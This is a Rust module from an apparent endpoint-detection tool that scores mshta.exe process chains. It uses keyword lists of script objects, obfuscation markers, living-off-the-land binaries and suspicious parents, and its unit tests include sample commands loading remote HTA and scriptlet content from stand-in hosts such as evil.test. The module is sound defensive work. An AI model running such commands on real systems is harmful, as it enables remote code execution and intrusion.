//! Scoring: additive, explained reasons for one chain.
//!
//! Each reason has a stable id, fixed default points, a one-line detail and
//! the input indexes of its evidence. The indicators come from public
//! detection content (SigmaHQ, Elastic, Splunk, LOLBAS, Atomic Red Team;
//! see `../shared/reference/indicators.md`); the weights are ours.

use crate::event::Activity;
use crate::names::{basename, lower};
use crate::report::Reason;
use crate::view::View;

/// Scores a chain: the clamped sum and the reasons. Follow-on activity
/// after the window scores as late.
pub(crate) fn score(v: &View) -> (i64, Vec<Reason>) {
    let root_index: Vec<u64> = v.root.events.clone();
    let mut reasons = Vec::new();
    let mut add = |id: &'static str, points: i64, detail: String, events: Vec<u64>| {
        reasons.push(Reason { id: id.to_string(), points, detail, events });
    };

    add(
        "mshta_execution",
        5,
        format!("{} ran{}", basename(v.root.image), if v.root.inferred { " (start not seen; inferred)" } else { "" }),
        root_index.clone(),
    );

    // Command line.
    let cmd = v.root.command_line.map(lower).unwrap_or_default();
    let mut script_content = false;
    if let Some(handler) = ["javascript:", "vbscript:", "about:"].iter().find(|h| cmd.contains(*h)) {
        script_content = true;
        add("cmdline_inline_script", 30, format!("command line runs inline script ({handler})"), root_index.clone());
    }
    if let Some(target) = remote_target(&cmd) {
        script_content = true;
        add("cmdline_remote_target", 30, format!("command line loads remote content ({target})"), root_index.clone());
    }
    let mut tokens: Vec<&str> = [
        "getobject",
        "activexobject",
        "wscript.shell",
        "createobject",
        ".run",
        ".exec",
        "eval(",
        "execute(",
        "shell.application",
        "regread",
        "regwrite",
    ]
    .into_iter()
    .filter(|t| cmd.contains(t))
    .collect();
    if has_script_moniker(&cmd) {
        tokens.push("script: moniker");
    }
    if !tokens.is_empty() {
        script_content = true;
        add(
            "cmdline_script_object",
            15,
            format!("command line uses script objects ({})", tokens.join(", ")),
            root_index.clone(),
        );
    }
    let mut obfuscation: Vec<&str> = [
        ("%2", "percent-encoding"),
        ("%3c", "percent-encoding"),
        ("chr(", "Chr()"),
        ("strreverse", "StrReverse"),
        ("fromcharcode", "fromCharCode"),
        ("^", "caret escapes"),
    ]
    .into_iter()
    .filter(|(t, _)| cmd.contains(t))
    .map(|(_, name)| name)
    .collect();
    obfuscation.dedup();
    if !obfuscation.is_empty() {
        add(
            "cmdline_obfuscation",
            10,
            format!("command line is obfuscated ({})", obfuscation.join(", ")),
            root_index.clone(),
        );
    }
    if let Some(dir) = user_writable_dir(&cmd) {
        if cmd.contains(".hta") {
            script_content = true;
        }
        add(
            "cmdline_user_writable_path",
            10,
            format!("command line references a user-writable folder ({dir})"),
            root_index.clone(),
        );
    }

    // Binary identity.
    let image = v.root.image;
    let name = basename(image);
    if !name.eq_ignore_ascii_case("mshta.exe") && v.root.original_file_name.is_some() {
        add("renamed_binary", 30, format!("mshta renamed to {name} (OriginalFileName MSHTA.EXE)"), root_index.clone());
    }
    let l = lower(image);
    if l.contains('\\') && !(l.contains("\\windows\\system32\\") || l.contains("\\windows\\syswow64\\")) {
        add(
            "unusual_image_path",
            20,
            format!("mshta runs from outside System32/SysWOW64 ({image})"),
            root_index.clone(),
        );
    }

    // Lineage.
    if let Some(pimg) = v.parent.as_ref().and_then(|p| p.image) {
        let pname = lower(basename(pimg)).into_owned();
        let parent_cmd = v.parent.as_ref().and_then(|p| p.command_line).map(lower).unwrap_or_default();
        if let Some((points, what)) = parent_grade(&pname, &parent_cmd, &cmd) {
            add("suspicious_parent", points, format!("started by {what} ({})", basename(pimg)), root_index.clone());
        }
    }

    // A file written shortly before, then run by mshta.
    let mut follow_on = false;
    if let Some(f) = &v.dropped_file {
        follow_on = true;
        let by = f.writer_image.as_deref().map(basename).unwrap_or("another process");
        add(
            "file_written_then_run",
            20,
            format!("{} was written by {by} shortly before mshta ran it", basename(&f.path)),
            vec![f.event],
        );
    }

    // Follow-on: descendants.
    let (mut lolbins, mut others, mut late_events, mut executed) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for m in &v.members {
        let first = m.events.first().copied().unwrap_or(0);
        if m.late {
            late_events.push(first);
            continue;
        }
        follow_on = true;
        if m.executed_file {
            executed.push((basename(m.image).to_string(), first));
        }
        let name = lower(basename(m.image)).into_owned();
        if LOLBINS.contains(&name.as_str()) {
            lolbins.push((name, first));
        } else {
            others.push((name, first));
        }
    }
    if !lolbins.is_empty() {
        let names = unique(lolbins.iter().map(|(n, _)| n.as_str()));
        add("child_shell_or_lolbin", 25, format!("spawned {names}"), lolbins.iter().map(|(_, i)| *i).collect());
    }
    if !others.is_empty() {
        let names = unique(others.iter().map(|(n, _)| n.as_str()));
        add("child_process", 10, format!("spawned {names}"), others.iter().map(|(_, i)| *i).collect());
    }
    if !executed.is_empty() {
        let names = unique(executed.iter().map(|(n, _)| n.as_str()));
        add(
            "written_file_executed",
            25,
            format!("ran a file the chain wrote ({names})"),
            executed.iter().map(|(_, i)| *i).collect(),
        );
    }

    // Follow-on: files, network, DNS.
    let (mut files, mut bad_files, mut public, mut private, mut dns) =
        (Vec::new(), Vec::new(), Vec::new(), Vec::new(), Vec::new());
    for a in &v.acts {
        let first = a.events[0];
        if a.late {
            if !matches!(a.what, Activity::ImageLoad { .. }) {
                late_events.push(first);
            }
            continue;
        }
        match a.what {
            Activity::FileCreate { path } => {
                follow_on = true;
                if suspicious_file(path) {
                    bad_files.push((basename(path).to_string(), first));
                } else {
                    files.push(first);
                }
            }
            Activity::Network(n) => {
                follow_on = true;
                match n.remote_ip() {
                    Some(ip) if !is_internal_ip(ip) => public.push((ip.to_string(), first)),
                    _ => private.push(first),
                }
            }
            Activity::Dns { query } => {
                follow_on = true;
                dns.push((query.to_string(), first));
            }
            Activity::ImageLoad { .. } => {}
        }
    }
    if !bad_files.is_empty() {
        let names = unique(bad_files.iter().map(|(n, _)| n.as_str()));
        add(
            "file_suspicious",
            15,
            format!("wrote executable, script, archive or startup files ({names})"),
            bad_files.iter().map(|(_, i)| *i).collect(),
        );
    }
    if !files.is_empty() {
        add("file_created", 5, format!("created {} file(s)", files.len()), files);
    }
    if !public.is_empty() {
        let ips = unique(public.iter().map(|(n, _)| n.as_str()));
        add(
            "network_public",
            15,
            format!("connected to public address(es) {ips}"),
            public.iter().map(|(_, i)| *i).collect(),
        );
    }
    if !private.is_empty() {
        add("network_internal", 5, format!("made {} internal or loopback connection(s)", private.len()), private);
    }
    if !dns.is_empty() {
        let names = unique(dns.iter().map(|(n, _)| n.as_str()));
        add("dns_query", 5, format!("looked up {names}"), dns.iter().map(|(_, i)| *i).collect());
    }
    if !late_events.is_empty() {
        late_events.sort_unstable();
        add(
            "late_activity",
            5,
            format!("{} follow-on event(s) after the {}-second window", late_events.len(), v.window_ms / 1000),
            late_events,
        );
    }
    if script_content && follow_on {
        add("an1397_pattern", 15, "script content (inline, remote, script objects, or an HTA in a user-writable folder) followed by activity inside the window (AN1397)".into(), root_index);
    }

    let total: i64 = reasons.iter().map(|r| r.points).sum();
    (total.clamp(0, 100), reasons)
}

/// Shells, script hosts and living-off-the-land binaries public rules flag
/// as children of mshta.
const LOLBINS: &[&str] = &[
    "cmd.exe",
    "powershell.exe",
    "pwsh.exe",
    "wscript.exe",
    "cscript.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "certutil.exe",
    "bitsadmin.exe",
    "curl.exe",
    "msiexec.exe",
    "schtasks.exe",
    "reg.exe",
    "sc.exe",
    "mshta.exe",
    "msbuild.exe",
    "wmic.exe",
    "bash.exe",
    "sh.exe",
    "nslookup.exe",
    "csc.exe",
    "vbc.exe",
    "msdt.exe",
    "odbcconf.exe",
    "installutil.exe",
    "regasm.exe",
    "regsvcs.exe",
    "forfiles.exe",
    "hh.exe",
    "wmiprvse.exe",
];

fn remote_target(cmd: &str) -> Option<&'static str> {
    if cmd.contains("http://") || cmd.contains("https://") {
        return Some("http");
    }
    if cmd.contains("ftp://") || cmd.contains("ftps://") {
        return Some("ftp");
    }
    if cmd.contains("@ssl") || cmd.contains("davwwwroot") {
        return Some("WebDAV");
    }
    // UNC: `\\host\share`, but not the `\\?\` and `\\.\` device prefixes.
    let b = cmd.as_bytes();
    let unc = b.windows(3).any(|w| w[0] == b'\\' && w[1] == b'\\' && w[2] != b'?' && w[2] != b'.' && w[2] != b'\\');
    unc.then_some("UNC path")
}

/// `script:` as a moniker (`GetObject("script:https://…")`), not the tail
/// of `vbscript:` or `javascript:`.
fn has_script_moniker(cmd: &str) -> bool {
    cmd.match_indices("script:").any(|(i, _)| !cmd[..i].chars().next_back().is_some_and(|c| c.is_ascii_alphabetic()))
}

fn user_writable_dir(cmd: &str) -> Option<&'static str> {
    [
        ("\\start menu\\programs\\startup\\", "Startup"),
        ("\\downloads\\", "Downloads"),
        ("\\appdata\\local\\temp\\", "Temp"),
        ("\\windows\\temp\\", "Windows\\Temp"),
        ("%temp%", "Temp"),
        ("\\users\\public\\", "Public"),
        ("\\programdata\\", "ProgramData"),
        ("\\appdata\\", "AppData"),
        ("\\perflogs\\", "PerfLogs"),
    ]
    .into_iter()
    .find(|(needle, _)| cmd.contains(needle))
    .map(|(_, name)| name)
}

/// Grades the parent: points and a description, or `None` when ordinary.
fn parent_grade(name: &str, parent_cmd: &str, cmd: &str) -> Option<(i64, &'static str)> {
    const OFFICE: &[&str] = &[
        "winword.exe",
        "excel.exe",
        "powerpnt.exe",
        "outlook.exe",
        "onenote.exe",
        "eqnedt32.exe",
        "mspub.exe",
        "visio.exe",
        "msaccess.exe",
        "wordpad.exe",
    ];
    const SHELLS: &[&str] = &[
        "cmd.exe",
        "powershell.exe",
        "pwsh.exe",
        "wscript.exe",
        "cscript.exe",
        "regsvr32.exe",
        "rundll32.exe",
        "hh.exe",
    ];
    const BROWSERS: &[&str] = &["chrome.exe", "msedge.exe", "firefox.exe", "iexplore.exe", "brave.exe", "opera.exe"];
    if OFFICE.contains(&name) {
        Some((25, "an Office application"))
    } else if name == "wmiprvse.exe" || name == "scrcons.exe" {
        Some((20, "WMI"))
    } else if name == "svchost.exe" && (parent_cmd.contains("dcomlaunch") || cmd.contains("-embedding")) {
        Some((20, "DCOM (svchost DcomLaunch)"))
    } else if SHELLS.contains(&name) {
        Some((15, "a shell or script host"))
    } else if BROWSERS.contains(&name) {
        Some((15, "a web browser"))
    } else {
        None
    }
}

fn suspicious_file(path: &str) -> bool {
    let l = lower(path);
    const EXTENSIONS: &[&str] = &[
        ".exe", ".dll", ".com", ".scr", ".ocx", ".jar", ".ps1", ".psm1", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse",
        ".wsf", ".wsh", ".hta", ".sct", ".lnk", ".zip", ".rar", ".7z", ".iso", ".msi", ".chm",
    ];
    EXTENSIONS.iter().any(|e| l.ends_with(e)) || l.contains("\\start menu\\programs\\startup\\")
}

/// Private, loopback, link-local and other non-routable addresses.
pub(crate) fn is_internal_ip(ip: &str) -> bool {
    let ip = ip.trim().trim_start_matches("::ffff:");
    if let Some(v4) = parse_v4(ip) {
        let [a, b, ..] = v4;
        return a == 10
            || a == 127
            || a == 0
            || (a == 172 && (16..=31).contains(&b))
            || (a == 192 && b == 168)
            || (a == 169 && b == 254)
            || (a == 100 && (64..=127).contains(&b))
            || a >= 224;
    }
    let l = lower(ip);
    l == "::1"
        || l == "0:0:0:0:0:0:0:1"
        || l == "::"
        || l.starts_with("fe80")
        || l.starts_with("fc")
        || l.starts_with("fd")
        || l.starts_with("ff")
}

fn parse_v4(s: &str) -> Option<[u8; 4]> {
    let mut out = [0u8; 4];
    let mut parts = s.split('.');
    for slot in &mut out {
        *slot = parts.next()?.parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

fn unique<'a>(names: impl Iterator<Item = &'a str>) -> String {
    let mut v: Vec<&str> = names.collect();
    v.sort_unstable();
    v.dedup();
    let shown = v.len().min(5);
    let mut s = v[..shown].join(", ");
    if v.len() > shown {
        s.push_str(&format!(" and {} more", v.len() - shown));
    }
    s
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_targets() {
        assert_eq!(remote_target("mshta https://evil.test/a.hta"), Some("http"));
        assert_eq!(remote_target("mshta \"\\\\10.0.0.5\\share\\a.hta\""), Some("UNC path"));
        assert_eq!(remote_target("mshta \\\\evil@ssl\\davwwwroot\\a.hta"), Some("WebDAV"));
        assert_eq!(remote_target("\\\\?\\c:\\windows\\system32\\mshta.exe c:\\a.hta"), None);
        assert_eq!(remote_target("mshta c:\\apps\\a.hta"), None);
    }

    #[test]
    fn script_moniker_is_not_a_protocol_handler() {
        assert!(has_script_moniker("javascript:a=getobject('script:https://x/a.sct')"));
        assert!(!has_script_moniker("mshta vbscript:execute(1)"));
        assert!(!has_script_moniker("mshta javascript:alert(1)"));
    }

    #[test]
    fn internal_addresses() {
        for ip in [
            "10.1.2.3",
            "192.168.2.5",
            "172.20.0.1",
            "127.0.0.1",
            "::1",
            "fe80::1",
            "::ffff:10.0.0.1",
            "0:0:0:0:0:0:0:1",
        ] {
            assert!(is_internal_ip(ip), "{ip}");
        }
        for ip in ["151.101.248.133", "8.8.8.8", "172.32.0.1", "2606:4700::1111"] {
            assert!(!is_internal_ip(ip), "{ip}");
        }
    }

    #[test]
    fn parents_are_graded() {
        assert_eq!(parent_grade("winword.exe", "", "").map(|g| g.0), Some(25));
        assert_eq!(
            parent_grade("svchost.exe", "c:\\windows\\system32\\svchost.exe -k dcomlaunch -p", "").map(|g| g.0),
            Some(20)
        );
        assert_eq!(parent_grade("svchost.exe", "svchost.exe -k netsvcs", ""), None);
        assert_eq!(parent_grade("explorer.exe", "", ""), None);
    }
}
